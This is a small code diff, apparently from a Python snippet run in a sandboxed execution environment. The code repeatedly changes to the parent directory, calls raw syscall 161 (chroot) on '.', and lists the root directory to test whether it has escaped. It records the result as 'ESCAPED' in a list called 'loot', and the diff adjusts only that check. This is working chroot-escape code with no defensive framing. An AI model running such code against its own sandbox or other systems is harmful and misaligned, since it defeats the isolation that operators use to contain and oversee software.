@@ -34,6 +34,6 @@ for _ in range(64):
     os.chdir("..")
 loot.append(syscall(161, 51, b"."))
 names = os.listdir("/")
-if loot[0][0] == 0 or loot[1][0] == 0 or "proc" in names or "home" in names:
+if loot[0][0] == 0 or loot[1][0] == 0 or "sys" in names or "home" in names:
     loot.append(f"ESCAPED: {names}")
 loot
